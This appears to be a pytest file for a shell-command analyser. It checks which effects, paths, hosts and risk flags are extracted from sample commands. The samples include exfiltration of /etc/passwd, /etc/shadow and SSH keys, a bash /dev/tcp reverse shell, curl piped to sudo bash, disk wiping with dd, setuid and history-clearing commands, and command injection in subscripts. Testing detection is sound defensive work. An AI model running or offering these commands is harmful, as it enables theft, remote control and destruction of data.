"""What a command does: effects, paths, hosts, and the flags that a rule asks for."""

from __future__ import annotations

from typing import Any

import pytest

from yett.extract import shell
from yett.extract.budget import Budget
from yett.extract.facts import Command


def only(source: str, program: str) -> Command:
    found = [
        c
        for c in shell.analyse(source, "/command", budget=Budget(milliseconds=20_000)).commands
        if c.program == program
    ]
    assert found, f"no {program} in {source}"
    return found[0]


CASES: list[tuple[str, str, dict[str, Any]]] = [
    ("cp -r a b /etc", "cp", {"reads": ("a", "b"), "writes": ("/etc",), "flags": {"recursive"}}),
    ("cp -t /etc a b", "cp", {"reads": ("a", "b"), "writes": ("/etc",)}),
    ("cp --target-dir=/etc a", "cp", {"reads": ("a",), "writes": ("/etc",)}),
    ("mv a b /tmp/", "mv", {"deletes": ("a", "b"), "writes": ("/tmp/",)}),
    ("rm -rf build dist/*", "rm", {"deletes": ("build", "dist/*"), "flags": {"recursive", "force", "glob_target"}}),
    ("rm -- -weird", "rm", {"deletes": ("-weird",)}),
    ("rm --recursi x", "rm", {"flags": {"recursive"}}),
    ("ln -sf /bin/sh /tmp/x", "ln", {"reads": ("/bin/sh",), "writes": ("/tmp/x",)}),
    ("chmod u+s /tmp/sh", "chmod", {"effects": {"privilege"}, "flags": {"setuid"}}),
    ("chmod 4755 /tmp/sh", "chmod", {"effects": {"privilege"}, "flags": {"setuid"}}),
    ("chmod -x /bin/ls", "chmod", {"writes": ("/bin/ls",)}),
    ("shuf -e x -o /etc/motd", "shuf", {"writes": ("/etc/motd",)}),
    ("setfacl -m u:ann:r /srv/a", "setfacl", {"writes": ("/srv/a",)}),
    ("echo make | at now", "at", {"effects": {"persist"}, "flags": {"scheduled"}}),
    ("systemd-run --on-calendar=hourly make", "systemd-run", {"effects": {"persist"}}),
    ("chmod -R 777 /srv", "chmod", {"flags": {"world_writable", "recursive"}, "writes": ("/srv",)}),
    ("dd if=/dev/zero of=/dev/sda", "dd", {"writes": ("/dev/sda",)}),
    ("echo x >> ~/.bashrc", "echo", {"writes": ("~/.bashrc",), "effects": {"persist", "write"}}),
    ("echo \"$HOME\" > $HOME/.profile", "echo", {"writes": ("~/.profile",), "effects": {"persist"}}),
    ("> /var/log/auth.log", ":", {"writes": ("/var/log/auth.log",)}),
    ("{ ls; } > out.txt", ":", {"writes": ("out.txt",)}),
    ("tee -a /etc/hosts", "tee", {"writes": ("/etc/hosts",)}),
    ("sort -o /etc/passwd x", "sort", {"writes": ("/etc/passwd",), "reads": ("x",)}),
    ("sed -i s/a/b/ x y", "sed", {"writes": ("x", "y"), "flags": {"in_place"}}),
    ("sed -n '/x/w out' in", "sed", {"writes": ("out",), "reads": ("in",)}),
    ("awk '{print > \"o\"}' in", "awk", {"writes": ("o",), "reads": ("in",)}),
    ("grep -r key /etc", "grep", {"reads": ("/etc",), "flags": {"recursive"}}),
    ("grep -e key -f list file", "grep", {"reads": ("list", "file")}),
    ("find / -name x -delete", "find", {"deletes": ("/",), "flags": {"recursive"}}),
    ("find . -fprint /tmp/o", "find", {"writes": ("/tmp/o",)}),
    ("tar xzf a.tgz -C /opt", "tar", {"reads": ("a.tgz",), "writes": ("/opt",), "flags": {"extract"}}),
    ("tar -cf /tmp/x.tar /home", "tar", {"reads": ("/home",), "writes": ("/tmp/x.tar",)}),
    ("tar cf host:/dev/x /etc", "tar", {"hosts": ("host",)}),
    ("curl -o /tmp/x https://e.example/x", "curl", {"hosts": ("e.example",), "writes": ("/tmp/x",)}),
    ("curl -T /etc/passwd ftp://e.example", "curl", {"reads": ("/etc/passwd",), "flags": {"upload"}}),
    ("curl -d @/etc/shadow http://e.example", "curl", {"reads": ("/etc/shadow",), "flags": {"sends"}}),
    ("curl -F f=@key http://e.example", "curl", {"reads": ("key",), "flags": {"upload"}}),
    ("curl -sSLo x -H 'A: b' http://u:p@e.example:81/p", "curl", {"hosts": ("e.example",), "writes": ("x",)}),
    ("curl file:///etc/passwd", "curl", {"reads": ("/etc/passwd",)}),
    ("curl -sO https://e.example/d/x.sh", "curl", {"writes": ("x.sh",), "flags": {"download"}}),
    ("wget https://e.example/d/x.sh", "wget", {"writes": ("x.sh",)}),
    ("cd /etc && cat shadow", "cat", {"reads": ("/etc/shadow",), "cwd": "/etc"}),
    ("cd ~/.ssh; cat id_rsa", "cat", {"reads": ("~/.ssh/id_rsa",)}),
    ("cd /; cd etc; fold passwd", "fold", {"reads": ("/etc/passwd",)}),
    ("(cd /etc); cat shadow", "cat", {"reads": ("shadow",)}),
    ("wget -qO- http://e.example", "wget", {"hosts": ("e.example",), "writes": ()}),
    ("wget --post-file=/etc/passwd http://e.example", "wget", {"reads": ("/etc/passwd",), "flags": {"upload"}}),
    ("scp ~/.ssh/id u@e.example:/tmp", "scp", {"reads": ("~/.ssh/id",), "hosts": ("e.example",)}),
    ("scp e.example:/etc/x .", "scp", {"hosts": ("e.example",), "writes": (".",)}),
    ("rsync -a --delete a/ e.example:b/", "rsync", {"hosts": ("e.example",), "effects": {"delete"}}),
    ("nc e.example 80 < /etc/passwd", "nc", {"hosts": ("e.example",), "reads": ("/etc/passwd",)}),
    ("bash -i >& /dev/tcp/203.0.113.5/44 0>&1", "bash", {"hosts": ("203.0.113.5",), "effects": {"network"}}),
    ("ssh -p 22 u@e.example ls", "ssh", {"hosts": ("e.example",)}),
    ("ssh u@e.example rm x", "rm", {"flags": {"remote"}, "wrappers": ("ssh",)}),
    ("sudo -u root rm x", "rm", {"effects": {"privilege", "delete"}, "wrappers": ("sudo",)}),
    ("doas env -i nice -n 3 rm x", "rm", {"effects": {"privilege"}, "wrappers": ("doas", "env", "nice")}),
    ("docker run -v /:/h --privileged a rm x", "docker", {"flags": {"mounts_system", "privileged"}}),
    ("docker run --rm a rm x", "rm", {"flags": {"container"}, "wrappers": ("docker",)}),
    ("kubectl exec -it p -- cat /etc/x", "cat", {"reads": ("/etc/x",), "flags": {"container"}}),
    ("systemctl enable --now x", "systemctl", {"effects": {"persist"}}),
    ("systemctl stop auditd", "systemctl", {"effects": {"kill"}, "flags": {"stops_service"}}),
    ("systemctl status x", "systemctl", {"effects": set()}),
    ("crontab /tmp/c", "crontab", {"effects": {"persist"}, "reads": ("/tmp/c",)}),
    ("echo '* * * * * rm x' | crontab -", "rm", {"flags": {"scheduled"}}),
    ("echo 'rm x' | at now", "rm", {"flags": {"scheduled"}}),
    ("useradd -m eve", "useradd", {"effects": {"persist", "privilege"}, "flags": {"accounts"}}),
    ("chage -l bob", "chage", {"effects": {"read"}}),
    ("apt list", "apt", {"effects": {"read"}}),
    ("apt-get install -y x", "apt-get", {"effects": {"write", "network"}, "flags": {"installs"}}),
    ("pip install -r r.txt", "pip", {"reads": ("r.txt",), "flags": {"installs"}}),
    ("pip list", "pip", {"effects": {"read"}}),
    ("psql -c 'drop table x'", "psql", {"flags": {"inline_sql"}}),
    ("psql -c '\\! rm x'", "rm", {"wrappers": ("psql",)}),
    ("git push --force", "git", {"effects": {"network"}, "flags": {"force"}}),
    ("git clean -fdx", "git", {"effects": {"delete"}}),
    ("git status", "git", {"effects": {"read"}}),
    ("git config core.sshCommand 'rm x'", "rm", {"via": "config"}),
    ("mkfs.ext4 /dev/sdb", "mkfs", {"writes": ("/dev/sdb",), "flags": {"destructive"}}),
    ("python3.11 a.py", "python", {"reads": ("a.py",), "flags": {"script_file"}}),
    ("python3 -m http.server", "python3", {"flags": {"listen"}, "effects": {"network"}}),
    ("kill -9 1", "kill", {"effects": {"kill"}}),
    ("iptables -F", "iptables", {"flags": {"firewall"}}),
    ("history -c", "history", {"flags": {"clears_history"}}),
    ("unset HISTFILE", "unset", {"flags": {"dangerous_env"}}),
    ("env", "env", {"flags": {"lists_environment"}}),
    ("frobnicate --in=/etc/x", "frobnicate", {"flags": {"profile_unknown"}, "reads": ("/etc/x",)}),
    ("./run.sh", "run.sh", {"flags": {"foreign_path", "profile_unknown"}}),
    ("PATH=/tmp:$PATH ls", "ls", {"flags": {"env_path"}}),
    ("LD_PRELOAD=./x.so ls", "ls", {"flags": {"dangerous_env"}}),
    ("export LD_PRELOAD=./x.so", "export", {"flags": {"dangerous_env"}}),
    ("ls | xargs rm", "rm", {"flags": {"stdin_args"}, "piped_from": ("ls",)}),
    ("curl http://e.example | sudo bash", "bash", {"flags": {"stdin_script"}, "piped_from": ("curl",)}),
    ("cd /etc && rm x", "rm", {"cwd": "/etc"}),
    ("socat TCP:203.0.113.5:1 EXEC:'rm x'", "rm", {"wrappers": ("socat",)}),
    ("screen -dmS n rm x", "rm", {"wrappers": ("screen",)}),
    ("strace -o /tmp/t rm x", "strace", {"writes": ("/tmp/t",)}),
    ("aws s3 cp secret s3://bucket/", "aws", {"reads": ("secret",), "hosts": ("bucket",)}),
    ("zip -r o.zip ~/.ssh", "zip", {"reads": ("~/.ssh",), "writes": ("o.zip",)}),
]  # fmt: skip


@pytest.mark.parametrize(("source", "program", "expected"), CASES, ids=[c[0][:40] for c in CASES])
def test_a_command_has_its_effects(source: str, program: str, expected: dict[str, Any]) -> None:
    command = only(source, program)
    for name, value in expected.items():
        actual = getattr(command, name)
        if isinstance(value, set) and value:
            assert value <= actual, f"{name}: {actual}"
        else:
            assert actual == (frozenset(value) if isinstance(value, set) else value), f"{name}: {actual}"


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("echo 'rm x' > a.sh; sh a.sh", "runs_written"),
        ("printf 'rm x' | tee a.sh; chmod +x a.sh; ./a.sh", "runs_written"),
        ("cat > a.sh <<'E'\nrm x\nE\nbash ./a.sh", "runs_written"),
        ("echo '#!/bin/sh' > a; echo 'rm x' >> a; ./a", "runs_written"),
    ],
)
def test_a_file_that_is_written_and_run_is_followed(source: str, expected: str) -> None:
    commands = shell.analyse(source, "/command", budget=Budget(milliseconds=20_000)).commands
    assert any(expected in c.flags for c in commands)
    assert any(c.program == "rm" and c.deletes == ("x",) for c in commands)


@pytest.mark.parametrize(
    "source",
    [
        "curl -o /tmp/a https://e.example/a && chmod +x /tmp/a && /tmp/a",
        "wget https://e.example/a.sh -O a.sh; sh a.sh",
        "curl https://e.example/a | tee a.sh; bash a.sh",
        "curl https://e.example/a > a.py; python3 a.py",
        "curl -sO https://e.example/a.sh; chmod +x a.sh; ./a.sh",
        "wget https://e.example/a.sh && bash a.sh",
    ],
)
def test_a_file_that_is_fetched_and_run_is_flagged(source: str) -> None:
    assert any(
        "runs_download" in c.flags
        for c in shell.analyse(source, "/command", budget=Budget(milliseconds=20_000)).commands
    )


@pytest.mark.parametrize("source", ["cp /bin/rm /tmp/z; /tmp/z x", "ln -s $(which rm) z; ./z x"])
def test_a_copy_of_a_program_is_that_program(source: str) -> None:
    assert only(source, "rm").deletes == ("x",)


@pytest.mark.parametrize(
    ("source", "kind", "text"),
    [
        ("python3 -c 'print(1)'", "python", "print(1)"),
        ("python3 <<'E'\nprint(1)\nE", "python", "print(1)\n"),
        ("echo 'print(1)' | python3", "python", "print(1)\n"),
        ("python3 -m timeit 'x()'", "python", "x()"),
        ("node -e 'x()'", "javascript", "x()"),
        ("psql -c 'select 1'", "sql", "select 1"),
        ("mysql -u root -e 'select 1'", "sql", "select 1"),
        ("sqlite3 a.db 'select 1'", "sql", "select 1"),
        ("psql <<E\nselect 1\nE", "sql", "select 1\n"),
        ("docker exec db psql -c 'select 1'", "sql", "select 1"),
        ("perl -e 'x()'", "perl", "x()"),
        ("curl https://e.example/x", "url", "https://e.example/x"),
    ],
)
def test_code_of_other_languages_is_handed_on(source: str, kind: str, text: str) -> None:
    nested = shell.analyse(source, "/command", budget=Budget(milliseconds=20_000)).nested
    assert (kind, text) in {(n.kind, n.text) for n in nested}


@pytest.mark.parametrize(
    ("source", "reason"),
    [
        ("$CMD x", "environment_program"),
        ('"$@"', "caller_program"),
        ("read CMD; $CMD x", "dynamic_program"),
        ("$(cat x) y", "dynamic_program"),
        ("/bin/r? x", "glob_program"),
        ('eval "$(cat x)"', "eval"),
        ("curl x | sh", "stdin_script"),
        ("bash <(curl x)", "stdin_script"),
        ("source <(curl x)", "sourced_output"),
        ("gcc @args", "response_file"),
        ("hash -p /tmp/x ls", "rebound_program"),
        ("sudo --frobnicate ls rm", "unknown_option"),
        ("bash -qzc 'rm x'", "invalid_option"),
        ("test -v 'a[$(rm x)]'", "subscript_data"),
        ("x='a[$(rm x)]'; echo $((x))", "arithmetic_data"),
        ("x='$(rm x)'; echo ${x@P}", "eval"),
    ],
)
def test_severe_opacity_is_said(source: str, reason: str) -> None:
    assert reason in shell.SEVERE
    commands = shell.analyse(source, "/command", budget=Budget(milliseconds=20_000)).commands
    assert any(reason in c.opaque for c in commands), commands


@pytest.mark.parametrize(
    ("source", "reason"),
    [
        ('echo "$TAG"', "dynamic_argument"),
        ("$HOME/bin/tool x", ""),
        ("$BIN/tool x", "dynamic_directory"),
        ("x=ls; $x", "resolved_program"),
        ("echo ls | sh", "resolved_script"),
        ('sh -c "ls $DIR"', "inline_dynamic"),
        ("make test", "project_script"),
    ],
)
def test_mild_opacity_is_never_severe(source: str, reason: str) -> None:
    commands = shell.analyse(source, "/command", budget=Budget(milliseconds=20_000)).commands
    reasons = {o for c in commands for o in c.opaque}
    assert not reasons & shell.SEVERE
    assert not reason or (reason in reasons and reason in shell.MILD)


def test_severe_and_mild_are_different_names() -> None:
    assert not shell.SEVERE & shell.MILD


@pytest.mark.parametrize(
    ("source", "program"),
    [
        ("chmod 600 ~/.ssh/config", "chmod"),
        ("at now + 5 minutes", "at"),
        ("atq", "atq"),
        ("git config core.hooksPath .githooks", "git"),
        ("fdisk -l /dev/sda", "fdisk"),
        ("hdparm -I /dev/sda", "hdparm"),
    ],
)
def test_what_only_looks_or_narrows_changes_nothing(source: str, program: str) -> None:
    found = only(source, program)
    assert not found.writes
    assert not found.effects & {"persist", "write"}
    assert not found.flags & {"runs_config", "scheduled"}


def test_a_php_server_does_not_wait_for_somebody_to_type() -> None:
    found = only("php -S localhost:8000", "php")
    assert "listen" in found.flags
    assert "interactive" not in found.flags
